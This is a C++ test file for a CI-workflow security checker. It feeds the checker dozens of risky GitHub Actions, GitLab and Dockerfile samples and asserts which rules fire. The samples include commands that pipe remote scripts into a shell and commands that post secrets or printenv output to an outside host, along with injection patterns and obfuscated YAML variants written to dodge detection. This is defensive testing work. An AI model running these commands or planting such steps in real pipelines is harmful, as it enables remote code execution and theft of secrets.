// Workflows as attackers and careless people write them are reported; well-kept ones are not.
#include <algorithm>
#include <fmt/format.h>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "analyzers/checks/risky_ci/workflow.hpp"
#include "analyzers/examine.hpp"
#include "base/text.hpp"

namespace peer {
namespace {

const std::string kPinned = "actions/checkout@0123456789abcdef0123456789abcdef01234567";

std::vector<Finding> review(const std::string& path, const std::string& text) {
  FileJob job;
  job.file.path = job.file.old_path = path;
  job.file.status = ChangeStatus::added;
  job.after = text;
  job.whole_file = true;
  std::vector<Finding> found;
  for (auto& finding : examine(job, {}).findings)
    if (finding.rule.starts_with("ci-")) found.push_back(std::move(finding));
  return found;
}

bool reports(const std::string& path, const std::string& text, std::string_view rule) {
  const auto found = review(path, text);
  return std::any_of(found.begin(), found.end(), [&](const Finding& f) { return f.rule == rule; });
}

struct Sample {
  std::string rule;
  std::string trigger;  // of the workflow
  std::string steps;    // indented by six blanks
};

std::string workflow(const std::string& trigger, const std::string& steps) {
  return fmt::format(
      "name: x\non: {}\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-24.04\n   "
      " steps:\n{}",
      trigger, steps);
}

std::string run(const std::string& command) { return "      - run: " + command + "\n"; }
std::string block(const std::string& command) {
  return "      - run: |\n          set -e\n          " + command + "\n";
}
std::string checkout(const std::string& ref) {
  return "      - uses: " + kPinned + "\n        with:\n          ref: " + ref + "\n";
}

std::vector<Sample> malicious() {
  const std::string head = "${{ github.event.pull_request.head.sha }}";
  std::vector<Sample> samples{
      {"ci-unpinned-action", "push", "      - uses: acme/deploy@main\n"},
      {"ci-unpinned-action", "push", "      - uses: 'acme/deploy@v1.2.3'\n"},
      {"ci-unpinned-action", "push",
       "      - name: x\n        uses: acme/tools/setup@v3 # stable\n"},
      {"ci-unpinned-action", "push", "      - uses: acme/deploy@0123456\n"},
      {"ci-unpinned-action", "push", "      - uses: docker://acme/image:latest\n"},
      {"ci-unpinned-action", "push", "      - uses: actions/checkout@v4\n"},
      {"ci-untrusted-checkout", "pull_request_target", checkout(head)},
      {"ci-untrusted-checkout", "[push, pull_request_target]", checkout("${{ github.head_ref }}")},
      {"ci-untrusted-checkout", "\n  pull_request_target:\n    types: [opened]", checkout(head)},
      {"ci-untrusted-checkout", "{pull_request_target: {types: [labeled]}}",
       checkout("refs/pull/${{ github.event.number }}/merge")},
      {"ci-untrusted-checkout", "pull_request_target",
       run("git fetch origin pull/${{ github.event.number }}/head && git checkout FETCH_HEAD")},
      {"ci-untrusted-checkout", "pull_request_target",
       run("gh pr checkout ${{ github.event.number }}")},
      {"ci-untrusted-checkout", "issue_comment", block("gh pr checkout $NUMBER && make")},
      {"ci-untrusted-checkout", "pull_request_target",
       "      - run: git checkout \"$HEAD\"\n        env:\n          HEAD: " + head + "\n"},
      {"ci-untrusted-checkout", "workflow_run",
       checkout("${{ github.event.workflow_run.head_sha }}")},
      {"ci-untrusted-checkout", "\n  workflow_run:\n    workflows: [a]",
       checkout("${{ github.event.workflow_run.head_branch }}")},
      {"ci-untrusted-checkout", "pull_request_target",
       "      - uses: " + kPinned +
           "\n        with:\n          repository: ${{ "
           "github.event.pull_request.head.repo.full_name }}\n"},
      {"ci-script-injection", "issues", run("echo '${{ github.event.issue.title }}'")},
      {"ci-script-injection", "issues",
       block("echo \"${{ github.event.issue.body }}\" > body.txt")},
      {"ci-script-injection", "pull_request", run("git switch ${{ github.head_ref }}")},
      {"ci-script-injection", "pull_request",
       run("./check ${{ github.event.pull_request.head.ref }}")},
      {"ci-script-injection", "issue_comment",
       block("if [[ \"${{ github.event.comment.body }}\" == /test* ]]; then make; fi")},
      {"ci-script-injection", "push", block("echo ${{ github.event.head_commit.message }}")},
      {"ci-script-injection", "push", block("echo ${{ github.event.commits[0].author.name }}")},
      {"ci-script-injection", "issues",
       "      - uses: actions/github-script@0123456789abcdef0123456789abcdef01234567\n        "
       "with:\n          script: |\n"
       "            console.log(`${{ github.event.issue.title }}`)\n"},
      {"ci-script-injection", "push",
       run("echo ${{ format('{0}', github.event.pull_request.title) }}")},
      {"ci-piped-download", "push", run("curl -fsSL https://get.acme.net/install.sh | sh")},
      {"ci-piped-download", "push", run("wget -qO- https://get.acme.net | sudo bash -s -- --yes")},
      {"ci-piped-download", "push", block("bash <(curl -s https://acme.net/uploader)")},
      {"ci-piped-download", "push", block("sh -c \"$(curl -fsSL https://acme.net/i.sh)\"")},
      {"ci-piped-download", "push", block("curl -s https://acme.net/i.py | python3 -")},
      {"ci-piped-download", "push", block("curl https://acme.net/i.sh \\\n            | bash")},
      {"ci-piped-download", "push", run("iwr https://acme.net/i.ps1 | iex")},
      {"ci-piped-download", "push", block("echo ZWNobyBoaQo= | base64 -d | bash")},
      {"ci-secret-sent", "push",
       run("curl -X POST -d \"t=${{ secrets.NPM_TOKEN }}\" https://acme.net/in")},
      {"ci-secret-sent", "push", block("echo '${{ toJSON(secrets) }}' > all.json")},
      {"ci-secret-sent", "push", block("printenv | curl --data-binary @- https://acme.net")},
      {"ci-secret-sent", "push",
       block("echo ${{ secrets.A }} | base64 | curl -T - https://acme.net")},
      {"ci-secret-sent", "push", run("curl \"https://acme.net/?k=${{ secrets.AWS_KEY }}\"")},
      {"ci-secret-use", "push",
       "      - run: ./x\n        env:\n          K: ${{ secrets.PROD_KEY }}\n"},
      {"ci-secret-use", "push",
       "      - run: ./x\n        env:\n          K: ${{ secrets['PROD_KEY'] }}\n"},
  };
  // the same, as YAML can also be written
  const auto with_ref = "ref: \"" + head + "\"";
  for (auto& sample : std::vector<Sample>{
           {"ci-untrusted-checkout", "pull_request_target",
            "      - uses: " + kPinned + "\n        with: { ref: " + head + " }\n"},
           {"ci-untrusted-checkout", "pull_request_target",
            "      - uses: " + kPinned + "\n        with: {fetch-depth: 0, " + with_ref + "}\n"},
           {"ci-untrusted-checkout", "pull_request_target",
            "      - {uses: " + kPinned + ", with: {ref: " + head + "}}\n"},
           {"ci-untrusted-checkout", "pull_request_target",
            "      - uses: " + kPinned + "\n        with:\n          'ref' :\n            " + head +
                "\n"},
           {"ci-untrusted-checkout", "pull_request_target",
            "      - uses: " + kPinned + "\n        with:\n          ref: >-\n            " + head +
                "\n"},
           {"ci-untrusted-checkout", "pull_request_target",
            "      - name: &ref \"" + head + "\"\n        uses: " + kPinned +
                "\n        with:\n          ref: *ref\n"},
           {"ci-untrusted-checkout", "\n  - push\n  - \"pull_request_targe\\x74\"", checkout(head)},
           {"ci-unpinned-action", "push", "      - {uses: acme/deploy@main}\n"},
           {"ci-unpinned-action", "push", "      - { name: x, uses: 'acme/deploy@main' }\n"},
           {"ci-unpinned-action", "push", "      - 'uses' : acme/deploy@main\n"},
           {"ci-unpinned-action", "push", "      - \"\\u0075ses\": acme/deploy@main\n"},
           {"ci-unpinned-action", "push", "      - ? uses\n        : acme/deploy@main\n"},
           {"ci-unpinned-action", "push", "      - uses:\n          acme/deploy@main\n"},
           {"ci-unpinned-action", "push", "      - uses: !!str acme/deploy@main\n"},
           {"ci-piped-download", "push", "      - {run: \"curl https://acme.net/i.sh | sh\"}\n"},
           {"ci-piped-download", "push", "      - {run: curl https://acme.net/i.sh | sh}\n"},
           {"ci-piped-download", "push",
            "      - run: >\n          curl https://acme.net/i.sh\n          | sh\n"},
           {"ci-piped-download", "push",
            "      - run: curl https://acme.net/i.sh\n          | sh\n"},
           {"ci-piped-download", "push",
            "      - run: \"cur\\x6c https://acme.net/i.sh \\\n          | sh\"\n"},
           {"ci-piped-download", "push", block("curl https://acme.net/i.sh |\n            sh")},
           {"ci-piped-download", "push", block("curl https://acme.net/i.sh | \\\n            sh")},
       })
    samples.push_back(std::move(sample));
  return samples;
}

TEST(RiskyCi, FindsAtLeast95PercentOfFortyMaliciousWorkflows) {
  const auto samples = malicious();
  ASSERT_GE(samples.size(), 40U);
  std::size_t found = 0;
  std::string missed;
  for (const auto& sample : samples) {
    const auto text = workflow(sample.trigger, sample.steps);
    const bool seen = reports(".github/workflows/ci.yml", text, sample.rule);
    found += seen ? 1 : 0;
    if (!seen) missed += sample.rule + "\n" + text;
  }
  EXPECT_GE(found * 100, samples.size() * 95) << missed;
  fmt::print("{} of {} found\n", found, samples.size());
}

TEST(RiskyCi, ReadsAWorkflowThatIsJson) {
  const std::string text =
      R"({"name": "x", "on": {"pull_request_target": null}, "permissions": "read-all", "jobs": {"a": {)"
      R"("runs-on": ["self-hosted"], "steps": [{"uses": "acme/deploy@main"},)"
      "\n"
      R"({"uses": ")" +
      kPinned +
      R"(", "with": {"ref": "${{ github.event.pull_request.head.sha }}"}},)"
      "\n"
      R"({"run": "curl https://acme.net/i.sh | sh\necho '${{ github.event.issue.title }}'"}]}}})"
      "\n";
  std::vector<std::string> seen;
  for (const auto& finding : review(".github/workflows/ci.yml", text))
    seen.push_back(fmt::format("{} {}", finding.rule, finding.at.start.line));
  std::sort(seen.begin(), seen.end());
  EXPECT_EQ(seen, (std::vector<std::string>{"ci-piped-download 3", "ci-script-injection 3",
                                            "ci-self-hosted-runner 1", "ci-unpinned-action 1",
                                            "ci-untrusted-checkout 2"}));
}

TEST(RiskyCi, SaysWhatAFoldedValueSaysAndWhereItStands) {
  const auto found = review(".github/workflows/a.yml",
                            workflow("push", "      - uses: >-\n          acme/a@main\n"));
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].message, "acme/a@main is not pinned to a commit");
  EXPECT_EQ(found[0].at.start.line, 10U);
  EXPECT_EQ(found[0].at.start.column, 11U);
}

TEST(RiskyCi, StillReadsWhatIsNoYaml) {
  const auto text =
      workflow("push", "      - uses: acme/a@main\n") + "}}: [\n\t- uses: acme/b@main\n";
  EXPECT_EQ(review(".github/workflows/a.yml", text).size(), 2U);
}

TEST(RiskyCi, LeavesWellKeptWorkflowsAlone) {
  const std::string step = "      - uses: " + kPinned + " # v4.2.2\n";
  const std::vector<std::string> files{
      workflow("push", step + run("make test")),
      workflow("pull_request", step + run("npm ci --ignore-scripts && npm test")),
      workflow("pull_request", checkout("${{ github.event.pull_request.head.sha }}")),
      workflow("pull_request_target", step + run("echo \"labelling ${{ github.event.number }}\"")),
      workflow("pull_request_target",
               "      - uses: acme/labeler@0123456789abcdef0123456789abcdef01234567\n"
               "        with:\n          sha: ${{ github.event.pull_request.head.sha }}\n"),
      workflow("issues",
               "      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ "
               "github.event.issue.title }}\n"),
      workflow("push", run("curl -fsSLo tool.tgz https://acme.net/tool.tgz && sha256sum -c "
                           "tool.sum && tar xf tool.tgz")),
      workflow("push", run("curl -s https://api.acme.net/items | jq -r .name")),
      workflow("push", run("curl -s https://api.acme.net/items | tee items.json | grep -c shell")),
      workflow(
          "push",
          block("wget -q https://acme.net/data.csv\n          python3 report.py data.csv | sort")),
      workflow("push", "      - uses: ./.github/actions/setup\n"),
      workflow("push", "      - uses: docker://alpine@sha256:" + std::string(64, 'a') + "\n"),
      workflow("push",
               "      - run: ./x\n        env:\n          T: ${{ secrets.GITHUB_TOKEN }}\n"),
      workflow("push", "      # - uses: acme/old@v1\n      # curl https://acme.net | sh\n" + step),
      workflow("workflow_run", step + run("gh run download ${{ github.event.workflow_run.id }}")),
      workflow("push", "      - {uses: " + kPinned + ", with: {fetch-depth: 0}}\n"),
      workflow("pull_request_target",
               "      - {uses: " + kPinned +
                   "}\n      - run: |\n          # curl x | sh\n          make\n"),
      workflow("push", "      - run: >-\n          echo uses: acme/x@v1\n          and more\n"),
      workflow("push", run("echo \"built from ${{ github.sha }} on ${{ github.ref_name }}\"")),
  };
  for (const auto& text : files) {
    const auto found = review(".github/workflows/ci.yml", text);
    EXPECT_TRUE(found.empty()) << text << "\n-> "
                               << (found.empty() ? "" : found[0].rule + ": " + found[0].message);
  }
}

TEST(RiskyCi, ReadsOtherSystemsToo) {
  EXPECT_TRUE(reports(".gitlab-ci.yml",
                      "a:\n  script:\n    - curl -s https://acme.net/i.sh | bash\n",
                      "ci-piped-download"));
  EXPECT_TRUE(reports(".gitlab-ci.yml", "include:\n  - remote: https://acme.net/ci.yml\n",
                      "ci-remote-include"));
  EXPECT_TRUE(reports("Dockerfile",
                      "FROM alpine\nRUN apk add curl && \\\n    curl https://acme.net/i.sh | sh\n",
                      "ci-piped-download"));
  EXPECT_TRUE(reports("setup/action.yml",
                      "runs:\n  using: composite\n  steps:\n    - uses: acme/x@v1\n",
                      "ci-unpinned-action"));
  EXPECT_TRUE(review("Dockerfile", "FROM alpine\nRUN apk add --no-cache curl\n").empty());
  EXPECT_TRUE(
      review("config/build.yml", workflow("push", "      - uses: acme/deploy@main\n")).empty());
}

TEST(RiskyCi, TakesThePlatformsOwnActionsLessSeriously) {
  const auto found =
      review(".github/workflows/a.yml",
             workflow("push", "      - uses: actions/cache@v4\n      - uses: acme/cache@v4\n"));
  ASSERT_EQ(found.size(), 2U);
  EXPECT_EQ(found[0].severity, Severity::info);
  EXPECT_EQ(found[1].severity, Severity::warning);
}

TEST(RiskyCi, CountsOnlyWhatTheChangeBroughtIn) {
  const auto old_text = workflow("push", "      - uses: acme/old@v1\n");
  const auto new_text = old_text + "      - uses: acme/new@v1\n";
  FileJob job;
  job.file.path = job.file.old_path = ".github/workflows/a.yml";
  job.before = old_text;
  job.after = new_text;
  job.file.hunks = {{{7, 3}, {7, 4}, {}, {{10, 1}}}};
  for (const auto& finding : examine(job, {}).findings) {
    if (finding.rule != "ci-unpinned-action") continue;
    EXPECT_EQ(finding.in_change, finding.message.find("acme/new") != std::string::npos);
  }
}

FileReview change(const std::string& before, const std::string& after, LineRange added) {
  FileJob job;
  job.file.path = job.file.old_path = ".github/workflows/a.yml";
  job.before = before;
  job.after = after;
  job.file.hunks = {{{1, 100}, {1, 100}, {}, {added}}};
  return examine(job, {});
}

std::vector<std::string> news(const FileReview& result, std::string_view rule) {
  std::vector<std::string> messages;
  for (const auto& finding : result.findings)
    if (finding.rule == rule && finding.in_change) messages.push_back(finding.message);
  return messages;
}

TEST(RiskyCi, SaysAnActionUsedInManyJobsOnce) {
  const auto before = workflow("push", "      - run: make\n");
  const auto after = before +
                     "      - uses: acme/a@v1\n      - uses: acme/b@v1\n      - uses: acme/a@v1\n" +
                     "      - uses: acme/a@v1\n";
  EXPECT_EQ(
      news(change(before, after, {10, 4}), "ci-unpinned-action"),
      (std::vector<std::string>{
          "acme/a@v1 is not pinned to a commit, nor are 2 more uses of it that the change adds",
          "acme/b@v1 is not pinned to a commit"}));
}

TEST(RiskyCi, TakesANewReleaseOfAnUnpinnedActionForNoNews) {
  const auto with = [](const std::string& use) {
    return workflow("push", "      - uses: acme/a" + use + "\n");
  };
  const LineRange line{9, 1};
  const std::string commit = "@0123456789abcdef0123456789abcdef01234567";
  EXPECT_TRUE(news(change(with("@v3"), with("@v4.1"), line), "ci-unpinned-action").empty());
  EXPECT_EQ(news(change(with(commit), with("@v4"), line), "ci-unpinned-action").size(), 1U);
  EXPECT_EQ(news(change(with("@v3"), with("@main"), line), "ci-unpinned-action").size(), 1U);
}

TEST(RiskyCi, SeesATriggerThatMakesAnOldCheckoutDangerous) {
  const auto steps = checkout("${{ github.event.pull_request.head.sha }}");
  FileJob job;
  job.file.path = job.file.old_path = ".github/workflows/a.yml";
  job.before = workflow("pull_request", steps);
  job.after = workflow("pull_request_target", steps);
  job.file.hunks = {{{1, 5}, {1, 5}, {{2, 1}}, {{2, 1}}}};
  const auto findings = examine(job, {}).findings;
  const auto found = std::find_if(findings.begin(), findings.end(), [](const Finding& f) {
    return f.rule == "ci-untrusted-checkout";
  });
  ASSERT_NE(found, findings.end());
  EXPECT_TRUE(found->in_change);
}

TEST(RiskyCi, IsLinearOnHostileText) {
  for (const std::string piece :
       {"curl a | ", "${{ ", "- uses: ", "run: |\n ", "git checkout ", "secrets.", "|\\\n",
        "{a: ", "\"a\": &a b, ", "*a, ", "a: ${{ github.head_ref }}\n      "}) {
    std::string text = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: ";
    while (text.size() < 500000)
      text += piece;
    const auto found = review(".github/workflows/a.yml", text);
    EXPECT_LT(found.size(), text.size());
  }
}

}  // namespace
}  // namespace peer
